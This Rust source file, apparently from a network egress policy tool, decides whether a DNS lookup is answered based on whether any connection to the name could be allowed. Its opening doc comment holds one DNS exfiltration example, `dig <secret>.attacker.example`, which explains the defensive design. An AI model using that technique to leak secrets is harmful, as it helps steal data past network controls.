//! How a DNS lookup is decided (policy-v1, "DNS lookups"), before any
//! address is known.
//!
//! A lookup exists to make a connection; a lookup for a connection no rule
//! could allow is only a channel (`dig <secret>.attacker.example` delivers
//! the secret with no connection at all). So:
//!
//! 1. The lookup is decided as a request of protocol `dns` to the name,
//!    port 53. If a rule decides it (a rule naming the name with no
//!    `protocols`, or with `dns` among them), that rule settles the lookup.
//! 2. Otherwise the lookup is answered when a connection to the name
//!    could be allowed by name: some protocol (`http`, `tls`, `tcp`) and
//!    port (80, 443, or one a rule names) whose decision, made with no
//!    addresses, is not a refusal (by a deny rule, or by the default). A
//!    connection refused only for what veto cannot see inside a tunnel
//!    still counts as possible: veto may open it. Rules that allow by
//!    address alone (`cidrs`) do not make a name worth looking up: a
//!    name reached that way needs a rule naming it (or a `dns` rule).
//! 3. If every such connection is refused by name, so is the lookup, by
//!    the decision of the first one tried (TLS on 443).
//!
//! The ports tried are those of rules and services: `ports` of a rule's
//! `to` and of services.

use crate::decide::{By, Decision, Grants, Outcome, Request};
use crate::model::{Document, Effect, Protocol};

/// The ports a lookup is tried against: 443, 80, then every port a rule
/// names, at most 32 in all.
pub(crate) fn ports(doc: &Document) -> Box<[u16]> {
    let mut ports = vec![443, 80];
    let named = doc
        .rules
        .iter()
        .filter_map(|r| r.to.as_ref()?.ports.as_ref())
        .chain(doc.services.iter().filter_map(|s| s.ports.as_ref()))
        .flatten();
    for p in named {
        if ports.len() >= 32 {
            break;
        }
        if !ports.contains(p) {
            ports.push(*p);
        }
    }
    ports.into_boxed_slice()
}

/// Whether an outcome made with no addresses refuses a connection whatever
/// it would resolve to, for a lookup: as [`crate::Policy::refused_by_name`],
/// except that the default refuses even when an allow rule matches by
/// address (`cidrs`). Such a rule allows connections to addresses; it does
/// not make every name worth asking about, or every query a name server
/// would see a channel out.
/// A default refusal of a tunnel with a rule that would decide the
/// requests inside (`inspect`) is not final either: veto may open it.
fn refuses(o: &Outcome, inspect: Option<u32>) -> bool {
    o.effect == Effect::Deny
        && match o.by {
            By::Rule(_) | By::PrivateNetwork(..) => true,
            By::Default => inspect.is_none(),
            By::Unseen(_) => false,
        }
}

/// A lookup's decision.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Lookup {
    /// Whether the name is resolved and answered.
    pub answered: bool,
    /// `Some(Deny)`: answered only because the rules that would refuse it
    /// are in report mode.
    pub would: Option<Effect>,
    /// The decision that settled it, and the protocol and port of the
    /// request it was made for (`dns` and 53 when a rule named the
    /// lookup itself).
    pub decision: Decision,
    pub protocol: Protocol,
    pub port: u16,
    /// What names the lookup's decision: the decision's, or the rule that
    /// would decide the requests inside a tunnel veto may open.
    pub by: By,
}

impl Lookup {
    /// `allow` when answered, else `deny`.
    pub fn effect(&self) -> Effect {
        if self.answered {
            Effect::Allow
        } else {
            Effect::Deny
        }
    }
}

impl crate::Policy {
    /// Decides a DNS lookup of `req.host` by `req.machine` (see the module
    /// documentation). `req.protocol` is `dns`; `req.ips` is empty.
    pub fn decide_lookup(&self, req: &Request<'_>, grants: &dyn Grants) -> Lookup {
        let dns = Request {
            protocol: Protocol::Dns,
            port: 53,
            ips: &[],
            method: "",
            path: "",
            ..*req
        };
        let d = self.decide(&dns, grants);
        if matches!(d.applied.by, By::Rule(_)) {
            return Lookup {
                answered: d.applied.effect != Effect::Deny,
                would: d.would(),
                decision: d,
                protocol: Protocol::Dns,
                port: 53,
                by: d.named().by,
            };
        }
        // A connection allowed in full answers the lookup; one allowed only
        // by report mode answers it as `would: deny`; else the first
        // refusal (TLS on 443) is the lookup's.
        let mut reported: Option<Lookup> = None;
        let mut refused: Option<Lookup> = None;
        for protocol in [Protocol::Tls, Protocol::Http, Protocol::Tcp] {
            for &port in self.lookup_ports.iter() {
                let view = Request {
                    protocol,
                    port,
                    ..dns
                };
                let d = self.decide(&view, grants);
                let by = match (d.applied.by, d.inspect) {
                    (By::Default, Some(rule)) => By::Rule(rule),
                    _ => d.named().by,
                };
                let l = |answered, would| Lookup {
                    answered,
                    would,
                    decision: d,
                    protocol,
                    port,
                    by,
                };
                match (
                    refuses(&d.applied, d.inspect),
                    refuses(&d.shadow, d.inspect),
                ) {
                    (false, false) => return l(true, None),
                    (false, true) => {
                        reported.get_or_insert(l(true, Some(Effect::Deny)));
                    }
                    (true, _) => {
                        refused.get_or_insert(l(false, None));
                    }
                }
            }
        }
        reported.or(refused).unwrap_or(Lookup {
            answered: false,
            would: None,
            decision: d,
            protocol: Protocol::Dns,
            port: 53,
            by: d.named().by,
        })
    }

    /// Why a lookup was decided as it was, for its record and for
    /// `veto policy test`.
    pub fn lookup_reason(&self, l: &Lookup, req: &Request<'_>) -> String {
        let view = Request {
            protocol: l.protocol,
            port: l.port,
            ips: &[],
            method: "",
            path: "",
            ..*req
        };
        let reason = self.reason(&l.decision, &view);
        if l.protocol == Protocol::Dns {
            return reason;
        }
        if !l.answered {
            return format!(
                "not looked up: no connection to `{}` could be allowed ({reason})",
                req.host
            );
        }
        let why = match (l.by, l.decision.named().by) {
            (By::Rule(i), By::Default) => {
                let r = &self.document().rules[i as usize];
                format!(
                    "rule `{}` decides the requests inside, if veto opens the tunnel: {}",
                    r.id,
                    r.reason.as_deref().unwrap_or("")
                )
            }
            _ => reason,
        };
        format!(
            "looked up: a {} connection to {}:{} could be allowed ({why})",
            l.protocol.as_str(),
            req.host,
            l.port
        )
    }
}
